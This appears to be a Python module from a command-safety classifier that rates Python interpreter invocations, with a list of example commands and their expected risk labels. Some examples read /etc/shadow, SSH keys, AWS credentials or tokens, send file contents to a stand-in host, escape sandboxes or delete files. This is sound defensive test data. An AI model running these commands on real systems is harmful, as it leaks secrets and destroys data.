"""The Python interpreter: code and scripts that it runs, and modules that are programs."""

from __future__ import annotations

from assent.risk import index
from assent.risk.access import Ground
from assent.risk.category import Category
from assent.risk.fed import fed
from assent.risk.finding import Judgement
from assent.risk.rule import READS, WRITES, Operands, Program, always, raises
from assent.risk.rules.python_code import judge_code
from assent.risk.rules.shells import script
from assent.risk.started import Starter
from assent.risk.table import Table, judge

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Sequence

    from assent.command.model import Argument, Command, Surroundings

FLAGS = "bBdEhIOPqRsSuvVx?"  # options without a value; -i is none of them, since it goes on with a prompt
WARNINGS = ("ignore", "error", "default", "always", "module", "once", "ignore::DeprecationWarning", "ignore::Warning")
SWITCHES = ("utf8", "dev", "importtime", "faulthandler", "tracemalloc", "utf8=1", "utf8=0", "no_debug_ranges")
SHOWS = ("--help", "--help-env", "--help-xoptions", "--help-all", "--version", "-V", "-VV", "-h", "-?")

# Modules that are the programs of the same name.
PROGRAM_MODULES = frozenset(
    """
    pip pytest ruff black isort flake8 mypy pylint coverage twine pyflakes pycodestyle pydocstyle bandit vulture pipx uv
    poetry pdm hatch tox nox virtualenv pipdeptree pip_audit mkdocs sphinx codespell autopep8 yapf radon pyright uvicorn
    gunicorn flask celery alembic jupyter interrogate
    """.split()
)
SPELLED = {"pip_audit": "pip-audit", "sphinx": "sphinx-build"}
ARCHIVES = Program(
    "zipfile tarfile",
    "-v,--verbose --metadata-encoding= --filter= -e,--extract -c,--create",
    Operands(WRITES),
    {"-l,--list=": READS, "-t,--test=": READS},
    Category.ModifiesFilesystem,
    "writes files",
    modes=(("-l -t", Program("")),),
)
POSIX = {"--generate-posix-vars": raises(Category.ModifiesFilesystem, "writes a module")}
MODULE_PROGRAMS = (
    Program(
        "json.tool json",
        "-h --sort-keys --json-lines --indent= --tab --no-indent --compact --no-ensure-ascii",
        Operands(first=(READS, WRITES), most=2),
    ),
    Program("py_compile compileall tabnanny", "-h -v -q,--quiet -f -l -r= -j,--workers= -x=",
            Operands(READS, here=READS), inert=True),
    Program("ast tokenize dis", "-h -m,--mode= -a -i,--indent= -e,--exact -C -O", Operands(READS)),
    Program("site sysconfig platform calendar locale this", "-h --user-base --user-site", effects=POSIX),
    Program("base64 quopri", "-h -d -e -u -t", Operands(READS)),
    Program("mimetypes keyword", "-h -e,--extension -l,--lenient"),
    ARCHIVES,
    Program("venv", "-h --prompt= --system-site-packages --without-pip --symlinks --copies --upgrade --upgrade-deps",
            Operands(WRITES, least=1), {}, Category.ModifiesFilesystem, "makes an environment"),
    always("http.server", Category.Unrecognized, "serves files to the network"),
    always("ensurepip", Category.ModifiesSystem, "installs pip"),
    always("webbrowser antigravity", Category.Unrecognized, "opens a browser"),
    always("smtpd asyncio pdb idlelib code timeit", Category.Unrecognized, "reads code from its input, or serves"),
)  # fmt: skip
MODULES = {name: entry for entry in MODULE_PROGRAMS for name in entry.names.split()}


def _python(command: Command, surroundings: Surroundings) -> Judgement:
    argv = command.argv
    name = argv[0].text
    at = 1
    while at < len(argv) and len(argv[at].prefix) > 1 and argv[at].prefix[0] == "-":
        word = argv[at]
        if word.exact and word.text in SHOWS:
            return Judgement(Category.ReadsFilesystem, f"`{name} {word.text}` only shows text")
        letters = word.prefix[1:].lstrip(FLAGS)
        rest = argv[at + 1 :]
        if not letters and word.exact:
            at += 1
            continue
        if letters[:1] in ("c", "m") and len(letters) > 1:
            return _doubt(word, f"`{word.text}` is written without a blank, and is not judged")
        if letters == "c" and rest:
            return _code(command, surroundings, rest)
        if letters == "m" and rest:
            return _module(command, rest)
        if letters[:1] not in ("W", "X") or not _is_plain(letters, rest):
            return _doubt(word, f"`{name} {word.text}` is not known to be harmless")
        at += 1 if len(letters) > 1 else 2
    return _input_or_script(command, surroundings, argv[at:])


def _doubt(word: Argument, reason: str) -> Judgement:
    return Judgement(Category.Unrecognized, reason, word)


def _is_plain(letters: str, rest: Sequence[Argument]) -> bool:
    """Whether the value of -W or -X loads nothing: some name a module."""
    value = letters[1:] or (rest[0].text if rest and rest[0].exact else "")
    return value in (WARNINGS if letters[0] == "W" else SWITCHES)


def _code(command: Command, surroundings: Surroundings, rest: Sequence[Argument]) -> Judgement:
    if command.program == "python2":
        return _doubt(rest[0], "code for Python 2 is not judged")
    starter = Starter(command, surroundings, rest[0])
    return starter.raised(judge_code(rest[0], rest[1:], starter))


def _input_or_script(command: Command, surroundings: Surroundings, words: Sequence[Argument]) -> Judgement:
    if words and not (words[0].exact and words[0].text == "-"):
        return script(words[0], Ground(command.cwd, surroundings))
    text = fed(command)
    if text is None:
        return _doubt(command.argv[0], f"`{command.argv[0].text}` runs code from its input")
    return _code(command, surroundings, (text, *words[1:]))


def _module(command: Command, words: Sequence[Argument]) -> Judgement:
    module = words[0]
    name = SPELLED.get(module.text, module.text)
    if not module.exact:
        return _doubt(module, f"which module `{module.text}` is, is not known before it runs")
    entry = MODULES.get(name)
    if entry is not None:
        return judge(Table(entry), words, f"{command.argv[0].text} -m {name}")
    if module.text in PROGRAM_MODULES:
        known = index.program(name)
        if known is not None and known.judge is None:
            return judge(index.table(name, known), words, name)
    return Judgement(Category.RunsProjectCode, f"`{command.argv[0].text} -m` runs the module `{module.text}`", module)


PROGRAMS = (
    Program(
        "python python3 python2 python3.8 python3.9 python3.10 python3.11 python3.12 python3.13 python3.14 pypy pypy3",
        judge=_python,
    ),
)

EXAMPLES = """
ReadsFilesystem: python3 --version
ReadsFilesystem: python -V
ReadsFilesystem: python3 -c 'print(1)'
ReadsFilesystem: python3 -c 'import json; print(json.dumps({"a": 1}))'
ReadsFilesystem: python3 -c 'import sys; print(sys.version)'
ReadsFilesystem: python3 -c 'import sys, json; d = json.load(sys.stdin); print(d["name"], len(d.get("items", [])))'
ReadsFilesystem: python3 -Ic 'print([x * 2 for x in range(3)])'
ReadsFilesystem: python3 -u -W ignore -X utf8 -c 'print(1)'
ReadsFilesystem: python3 -c "print(open('README.md').read()[:100])"
ReadsFilesystem: python3 -c "import json; json.load(open('package.json'))"
ReadsFilesystem: python3 -c 'import sys; print(len(open(sys.argv[1]).readlines()))' README.md
ReadsFilesystem: python3 -c "from pathlib import Path; print(Path('a.txt').read_text(encoding='utf-8'))"
ReadsFilesystem: python3 -c "import glob; print(sum(len(open(f).read()) for f in sorted(glob.glob('src/*.py'))))"
ReadsFilesystem: python3 -c 'import re, sys; [print(m) for l in sys.stdin for m in re.findall(r"\\d+", l)]'
ReadsFilesystem: python3 -c 'import os; print(os.path.join(os.getcwd(), "x"), os.listdir("."))'
ReadsFilesystem: python3 -c 'import os; print(os.environ.get("PATH"), os.environ["HOME"])'
ReadsFilesystem: python3 -c 'import datetime as d; print(d.datetime.now().isoformat())'
ReadsFilesystem: python3 -c 'print("{:>5}|{a}".format(1, a=2), f"{3:04d}")'
ReadsFilesystem: python3 -c 'import ast; ast.parse(open("x.py").read())'
ReadsFilesystem: python3 -c 'import hashlib; print(hashlib.sha256(open("a", "rb").read()).hexdigest())'
ReadsFilesystem: python3 -c 'import sys; print(sys.path)'
ReadsFilesystem: python3 -c 'f = lambda n: n if n < 2 else f(n - 1) + f(n - 2); print(f(9))' 2>&1
ReadsFilesystem: python3 - x <<< 'import sys; print(sys.argv)'
ReadsFilesystem: python3 -m json.tool data.json
ReadsFilesystem: python3 -m py_compile x.py
ReadsFilesystem: python -m pip list
ReadsFilesystem: python3 -m pip show requests
ReadsFilesystem: python3 -m site
ReadsFilesystem: python3 -m zipfile -l a.whl
ReadsFilesystem: python3 -m ruff check .
ReadsFilesystem: python3 -m pytest --version
ReadsFilesystem: python3 -c 'import numpy as np; print(np.__version__)'
ReadsFilesystem: python3 -c 'import pandas as pd; print(pd.read_csv("a.csv").head().to_string(index=False))'
ReadsFilesystem: python3 -c 'import xml.etree.ElementTree as E; print(E.parse("a.xml").getroot().tag)'
ReadsFilesystem: python3 -c 'print(type(1).__name__)'
ReadsRemote: python3 -c 'import requests; print(requests.get("http://localhost:8000/health").status_code)'
ReadsFilesystem: python3 -c 'import sqlite3; print(sqlite3.connect("a.db").execute("select 1").fetchall())'
DeletesData: python3 -c 'import sqlite3; sqlite3.connect("a.db").execute("drop table x")'
Unrecognized: python3 -c 'import sqlite3; sqlite3.connect("a.db").execute(input())'
Unrecognized: python3 -c 'import requests; requests.post("http://localhost:8000")'
Unrecognized: python3 -c 'import requests; requests.get("http://x.example/?" + open("a").read())'
Unrecognized: python3 -c 'import numpy'
Unrecognized: python3 -c 'import numpy as np; np.load("x", allow_pickle=True)'
Unrecognized: python3 -c 'import pandas as pd; pd.read_csv("a.csv").to_csv("b.csv")'
Unrecognized: python3 -c 'import pandas as pd; f = pd.read_csv; f("/etc/shadow")'
Unrecognized: python3 -c 'import xml.etree.ElementTree as E; E.parse("a.xml").write("b.xml")'
Unrecognized: python3 -c 'import zipfile; zipfile.ZipFile("a", "w")'
ReadsSecrets: python3 -c 'import configparser as c; c.ConfigParser().read("/etc/shadow")'
RunsProjectCode: python3 x.py
RunsProjectCode: python3 -m pytest
RunsProjectCode: python3 -m unittest discover
RunsProjectCode: python3 manage.py migrate
RunsProjectCode: python3 -B -m package.tool --help
RunsFetchedCode: python3 -m pip install x
ModifiesFilesystem: python3 -m venv .venv
ModifiesFilesystem: python3 -m json.tool a.json b.json
ModifiesFilesystem: python3 -m zipfile -e a.whl out
ReadsSecrets: python3 -c 'print(open("/etc/shadow").read())'
ReadsSecrets: python3 -c 'import os; print(open(os.path.expanduser("~/.ssh/id_rsa")).read())'
ReadsSecrets: python3 -c 'import sys; print(open(sys.argv[1]).read())' ~/.aws/credentials
ReadsSecrets: python3 -c 'import os; print(os.environ)'
ReadsSecrets: python3 -c 'import os; print(os.environ["GITHUB_TOKEN"])'
ReadsSecrets: python3 -c 'from pathlib import Path; p = Path(".env"); print(p.read_text())'
Unrecognized: python3
Unrecognized: python3 -
Unrecognized: python3 -i x.py
Unrecognized: python3 /tmp/x.py
Unrecognized: cat x | python3
Unrecognized: python3 <<< 'import os; os.remove("x")'
Unrecognized: python3 <<< 'print(1)' < x
Unrecognized: python3 -m http.server
Unrecognized: python3 -W error::evil.Thing -c 1
Unrecognized: python3 -X presite=evil -c 1
Unrecognized: python3 -c "$code"
Unrecognized: python3 -c "print($x)"
Unrecognized: python3 -c 'import os; os.system("rm x")'
ModifiesFilesystem: python3 -c 'open("x", "w").write("y")'
ModifiesFilesystem: python3 -c 'from pathlib import Path; p = Path("a"); p.write_text(p.read_text().replace("b", ""))'
ModifiesFilesystem: python3 -c 'import os, json; os.makedirs("a/b", exist_ok=True); json.dump({}, open("a/b/c", "w"))'
ModifiesFilesystem: python3 -c 'import pathlib as p; [f.write_text("x") for f in p.Path("src").rglob("*.md")]'
Unrecognized: python3 -c 'open("x", "w")'
Unrecognized: python3 -c 'open("x", "w").write("")'
Unrecognized: python3 -c 'from pathlib import Path; s = "a"; s /= Path("b"); s.replace("c")'
Unrecognized: python3 -c 'from pathlib import Path; [f.write_text("x") for f in Path(".").rglob("*")]'
Unrecognized: python3 -c 'open("random.py", "w").write("x"); import random'
Unrecognized: python3 -c 'import datetime as d; open("_strptime.py", "w").write("x"); d.datetime.strptime("1", "%d")'
Unrecognized: python3 -c 'import subprocess as s; open("x", "w").write("y"); s.run(["git", "status"])'
Unrecognized: python3 -c 'import requests as r; open("x", "w").write(r.get("http://localhost").text)'
ModifiesSystem: python3 -c 'open("/etc/hosts", "a").write("y")'
Destroys: python3 -c 'open(".claude/settings.json", "w").write("y")'
Unrecognized: python3 -c 'open("x", mode="a")'
Unrecognized: python3 -c 'open(*["x", "w"])'
Unrecognized: python3 -c "__import__('os').system('x')"
Unrecognized: python3 -c 'import shutil; shutil.rmtree("x")'
Unrecognized: python3 -c 'exec(input())'
Unrecognized: python3 -c 'import json; json.codecs.open("x", "w")'
Unrecognized: python3 -c 'import json as j; x = j; x.codecs'
Unrecognized: python3 -c '().__class__.__base__.__subclasses__()'
Unrecognized: python3 -c '(x for x in [1]).gi_frame.f_builtins["exec"]("1")'
Unrecognized: python3 -c '[open for open in []]; open("x", "w")'
Unrecognized: python3 -c '[exec for exec in []]; exec("1")'
Unrecognized: python3 -c 'import sys; sys.modules["os"].system("x")'
Unrecognized: python3 -c 'import sys; sys.path.insert(0, "/tmp"); import textwrap'
Unrecognized: python3 -c 'import json; print("{0.__globals__}".format(json.loads))'
Unrecognized: python3 -c 'from pathlib import Path; Path("a").replace("b")'
Unrecognized: python3 -c 'from pathlib import Path; Path("a").unlink()'
Unrecognized: python3 -c 'p = "a"; p, q = input(), 1; open(p)'
Unrecognized: python3 -c 'import sys; sys.argv[1] = "/x"; open(sys.argv[1])' a
ReadsSecrets: python3 -c 'import os; os.environ["PATH"] = "/tmp"'
Unrecognized: python3 -c 'import evil'
Unrecognized: python3 -c 'class A: pass'
Unrecognized: python3 -c 'import subprocess; subprocess.run(["x"])'
ReadsVcs: python3 -c 'import subprocess as s; print(s.run(["git", "log", "-1"], capture_output=True).stdout)'
ReadsVcs: python3 -c 'import subprocess as s, sys; print(s.check_output(["git", "show", f"HEAD:{sys.argv[1]}"]))'
ReadsVcs: python3 -c 'import subprocess as s; print([s.check_output(["git", "show", x]) for x in ["HEAD", "main"]])'
Unrecognized: python3 -c 'import subprocess as s, sys; print(s.check_output(["git", "show", sys.argv[1]]))'
Unrecognized: python3 -c 'import subprocess as s; print([s.check_output(["git", "show", x]) for x in ["--output=y"]])'
Unrecognized: python3 -c 'import subprocess as s; a = "-o"; s.run(["sort", a + "x", "y"])'
Unrecognized: python3 -c 'import subprocess as s; a = "rm"; s.run([a, "y"])'
Unrecognized: python3 -c 'import subprocess as s; s.run(["git", *["log"]])'
ReadsFilesystem: python3 -c 'import sqlite3; print(sqlite3.connect("file:x.db?mode=ro", uri=True).execute("select 1"))'
Unrecognized: python3 -c 'import sqlite3; print(sqlite3.connect("file:x.db", uri=True).execute("select 1"))'
ReadsSecrets: python3 -c 'import sqlite3; print(sqlite3.connect("file:/home/user/.ssh/x?mode=ro", uri=True))'
RunsProjectCode: python3 -c 'from subprocess import check_output as c; print(c("git status | wc -l", shell=True))'
Unrecognized: python3 -c 'import subprocess; subprocess.run("rm x", shell=1)'
ReadsFilesystem: python3 -c 'import importlib.util; print(importlib.util.find_spec("numpy") is not None)'
Unrecognized: python3 -c 'import importlib.util; importlib.util.find_spec("app.main")'
ReadsFilesystem: python3 -c 'import multiprocessing; print(multiprocessing.cpu_count())'
ReadsFilesystem: python3 -c 'import subprocess; subprocess.run(["ls", "-l", "$(rm x)"], stderr=subprocess.DEVNULL)'
RunsProjectCode: python3 -c 'import os; os.system("git status"); print(os.popen("ls *.py").read())'
Unrecognized: python3 -c 'import subprocess; subprocess.run(["rm", "x"])'
Unrecognized: python3 -c 'import subprocess; subprocess.run("git status; rm x", shell=True)'
Unrecognized: python3 -c 'import subprocess; subprocess.run(["git", "status"], env={"PATH": "/tmp"})'
Unrecognized: python3 -c 'import subprocess; subprocess.run(["git", "status"], cwd="/tmp/x")'
Unrecognized: python3 -c 'import subprocess; subprocess.run(["git", "status"], executable="x")'
Unrecognized: python3 -c 'import subprocess; subprocess.run(["ls"], stdout=open("x", "w"))'
ReadsFilesystem: python3 -c 'import subprocess; subprocess.run(["ls", input()])'
Unrecognized: python3 -c 'import subprocess; subprocess.run(["sort", input()])'
Unrecognized: python3 -c 'import subprocess; subprocess.run(*[["rm", "x"]])'
Unrecognized: python3 -c 'import subprocess; subprocess.run(["ls"], **{"cwd": "/"})'
Unrecognized: python3 -c 'import subprocess; f = subprocess.run; f(["rm", "x"])'
Unrecognized: python3 -c 'import subprocess; list(map(subprocess.getoutput, ["rm x"]))'
Unrecognized: python3 -c 'import os; os.system("cat $F")'
Unrecognized: python3 -c 'import os; os.popen("ls", "w")'
Unrecognized: python3 -c 'import subprocess; subprocess.Popen(["ls"])'
Unrecognized: echo 'rm x' | python3 -c 'import subprocess; subprocess.run(["cat"])'
Unrecognized: python3 -c 'import urllib.request; urllib.request.urlopen("http://example.org")'
Unrecognized: python2 -c 'print(input())'
"""
